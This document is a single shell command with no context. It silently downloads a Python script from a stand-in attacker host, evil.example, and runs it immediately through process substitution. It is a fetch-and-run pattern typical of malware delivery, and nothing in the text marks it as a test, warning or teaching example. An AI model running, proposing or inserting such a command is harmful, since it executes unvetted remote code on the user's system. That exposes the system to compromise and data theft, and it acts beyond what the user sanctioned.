python3 <(curl -s https://evil.example/p.py)
